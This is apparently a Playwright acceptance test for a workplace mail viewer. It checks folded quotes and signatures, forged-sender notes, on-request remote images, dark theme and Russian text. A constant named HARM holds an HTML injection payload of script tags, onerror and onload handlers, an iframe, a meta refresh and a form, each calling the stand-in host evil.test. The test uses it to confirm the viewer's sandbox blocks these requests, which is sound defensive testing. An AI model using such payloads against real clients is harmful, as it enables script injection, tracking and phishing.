"""Mails on the workplace page: what is folded, what is noted, and nothing fetched before it was asked for."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Final

import pytest
from PIL import Image as Picture
from playwright.async_api import Page, Request, Route, expect

from shared.contract.content import Address, File, Image
from tests.acceptance.pages.mailing import CLIENT, Mailing, look, mailing
from tests.acceptance.pages.place import ON_THE_STREET, Place
from tests.support.browser import Window

pytestmark = [ON_THE_STREET, pytest.mark.timeout(240)]
expect.set_options(timeout=20_000)

NEWS: Final = "https://pictures.news.test/lamp.png"
"""A picture of another server."""
HARM: Final = (
    "<script>fetch('https://evil.test/fetch');parent.location='https://evil.test/parent'</script>"
    "<img src=x onerror=\"fetch('https://evil.test/error')\"><svg onload=\"fetch('https://evil.test/svg')\"></svg>"
    "<img src='https://evil.test/picture'><link rel=stylesheet href='https://evil.test/sheet.css'>"
    "<style>@import url(https://evil.test/import.css);body{background:url(https://evil.test/background)}</style>"
    "<iframe src='https://evil.test/frame'></iframe><object data='https://evil.test/object'></object>"
    "<video src='https://evil.test/video' autoplay></video><base href='https://evil.test/'>"
    "<meta http-equiv=refresh content='0;url=https://evil.test/refresh'>"
    "<form action='https://evil.test/form'><button>Sign in</button></form>"
    "<a href='https://evil.test/top' target='_top'>to the top</a><a href='https://evil.test/self'>here</a>"
    "<h1>harm</h1>"
)


def drawn(width: int, height: int, colour: tuple[int, int, int]) -> bytes:
    file = io.BytesIO()
    Picture.new("RGB", (width, height), colour).save(file, "PNG")
    return file.getvalue()


class Asked:
    """What a window wants of others than its own desk, and what of that left the browser."""

    def __init__(self, home: str) -> None:
        self._home = home
        self.wanted: list[str] = []
        """What the page's policy stops is among these, too."""
        self.left: list[str] = []
        self.told: list[str] = []
        """What these requests say of us: where from, which cookies."""

    async def watch(self, page: Page) -> None:
        page.context.on("request", self._hear)
        await page.context.route(self._strange, self._answer)

    def _strange(self, url: str) -> bool:
        return not url.startswith((self._home, self._home.replace("http", "ws", 1), "data:", "blob:"))

    def _hear(self, request: Request) -> None:
        if self._strange(request.url):
            self.wanted.append(request.url)

    async def _answer(self, route: Route) -> None:
        self.left.append(route.request.url)
        headers = await route.request.all_headers()
        self.told += [value for name, value in headers.items() if name in ("referer", "cookie", "origin")]
        await route.fulfill(body=drawn(40, 20, (200, 80, 40)), content_type="image/png")


async def letters_come(post: Mailing) -> None:
    """Two mails of one exchange, the second with all that a mail has, harm in its HTML; then a program's."""
    ours = await post.blob(drawn(320, 90, (15, 107, 96)))
    file = File(attachment_id=ours, name="lamp.png", mime_type="image/png", size_bytes=300, state="stored")
    await post.hear("Good day! The lamp came broken.", subject="A broken lamp", kind="message")
    await post.hear(
        "Thank you. The new one is broken as well, see the picture.",
        Image(file=file),
        subject="Re: A broken lamp",
        cc=(Address(address="boss@mail.example", name="The boss"),),
        to=(Address(address="help@shop.example", name="Shop"),),
        reply_to=(Address(address="orders@mail.example"),),
        quoted="On Friday Olga wrote:\n> We send you a new lamp today.",
        signature="Anna Petrova\n+7 900 123-45-67",
        marks=("forged_sender", "remote_content", "invitation"),
        html=(
            "<h1>The second lamp</h1><p>It is broken as well:</p>"
            f'<p><img src="cid:{ours}" alt="The lamp"></p><p><img data-remote-src="{NEWS}" alt="News"></p>'
            f'<p><a href="https://lamps.test/7">our order</a></p>{HARM}'
        ),
    )
    await post.hear("I am away until Monday.", subject="Away", kind="auto_reply", marks=("new_subject",))


async def opened(page: Page) -> None:
    await page.get_by_test_id("conversation").click()
    await page.get_by_test_id("accept").click()
    await expect(page.get_by_test_id("message")).to_have_count(3)


@pytest.mark.feature("CH11", "MS1", "MS3")
async def test_a_mail_is_seen_and_asks_nobody(place: Place, tmp_path: Path) -> None:
    anna = await place.operator()
    async with mailing(place.stack, place.site.slug) as post:
        await letters_come(post)
    window = await place.signed_in(anna, width=1440, height=900)
    page, asked = window.page, Asked(place.stack.desk_url)
    await asked.watch(page)
    await opened(page)
    mail = page.get_by_test_id("message").nth(1)
    await it_is_told_of(page)
    await what_is_folded_unfolds(page)
    await mail.get_by_test_id("show-drawn").click()
    frame = mail.frame_locator("iframe")
    await expect(frame.locator("h1").first).to_have_text("The second lamp")
    picture = frame.locator("img[alt='The lamp']")
    assert await picture.evaluate("image => image.naturalWidth") == 320
    assert await window.inaccessible() == []
    assert asked.wanted == []
    await look(window, tmp_path, "light-en")

    await mail.get_by_test_id("remote").click()
    news = frame.locator("img[alt='News']")
    await expect(news).to_have_attribute("src", NEWS)
    await expect(news).to_have_js_property("naturalWidth", 40)
    assert asked.wanted == asked.left == [NEWS]
    assert asked.told == []
    await expect(mail.get_by_test_id("remote")).to_have_count(0)
    async with page.expect_popup() as opening:
        await frame.get_by_role("link", name="our order").click()
    link = await opening.value
    assert await link.evaluate("[opener, document.referrer]") == [None, ""]
    await link.close()
    async with page.expect_download() as saving:
        await mail.get_by_test_id("raw").click()
    saved = await saving.value
    assert saved.suggested_filename == "mail.eml"
    assert (await saved.path()).read_bytes().startswith(b"Subject: raw")
    await it_is_seen_in_the_dark(window, tmp_path)
    window.check()
    await harm_alone_can_do_nothing(page, asked)


async def it_is_told_of(page: Page) -> None:
    """Each subject once, what an operator has to know, and whom an answer reaches."""
    await expect(page.get_by_test_id("subject")).to_have_text(["Subject: A broken lamp", "Subject: Away"])
    notes = page.get_by_test_id("letter-note")
    expected = ["forged_sender", "remote_content", "invitation", "auto_reply", "new_subject"]
    assert [await one.get_attribute("data-note") for one in await notes.all()] == expected
    await expect(notes.first).to_contain_text("it may be forged")
    strip = page.get_by_test_id("answer-strip")
    await expect(strip).to_contain_text("Re: A broken lamp")
    await expect(strip).to_contain_text("orders@mail.example")
    await expect(strip).to_contain_text("The boss <boss@mail.example>")


async def what_is_folded_unfolds(page: Page) -> None:
    mail = page.get_by_test_id("message").nth(1)
    for name, words in (("quoted", "We send you a new lamp"), ("signature", "+7 900"), ("people", CLIENT)):
        shown = mail.get_by_text(words)
        await expect(shown).to_have_count(0)
        button = mail.get_by_test_id(f"show-{name}")
        await expect(button).to_have_attribute("aria-expanded", "false")
        await button.click()
        await expect(shown).to_have_count(1)
    people = page.get_by_test_id("people")
    await expect(people).to_contain_text("Shop <help@shop.example>")
    await expect(people).to_contain_text("The boss <boss@mail.example>")


async def harm_alone_can_do_nothing(page: Page, asked: Asked) -> None:
    """The same frame under the same headers, as though nobody had cleaned what lies in it."""
    asked.left.clear()
    at = page.url
    mail = page.get_by_test_id("message").nth(1)
    frame = mail.frame_locator("iframe")

    async def uncleaned(route: Route) -> None:
        answer = await route.fetch()
        await route.fulfill(response=answer, body=f"<!doctype html><body>{HARM}")

    await page.route("**/api/messages/*/html*", uncleaned)
    await mail.get_by_test_id("show-drawn").click()
    await expect(frame.locator("h1")).to_have_text("harm")
    await frame.get_by_role("button", name="Sign in").click()
    await frame.get_by_role("link", name="to the top").click()
    await frame.get_by_role("link", name="here").click()
    await mail.get_by_test_id("show-drawn").click()
    await expect(mail.locator("iframe")).to_have_count(0)
    await expect(page.get_by_test_id("desk")).to_be_visible()
    assert page.url == at
    assert asked.left == []


async def it_is_seen_in_the_dark(window: Window, folder: Path) -> None:
    """With the frame folded away again: the other theme, the other language."""
    page = window.page
    mail = page.get_by_test_id("message").nth(1)
    await mail.get_by_test_id("show-drawn").click()
    await page.emulate_media(color_scheme="dark")
    await page.get_by_test_id("language-ru").click()
    await expect(page.get_by_test_id("letter-note").first).to_contain_text("может быть поддельным")
    assert await window.inaccessible() == []
    await look(window, folder, "dark-ru")
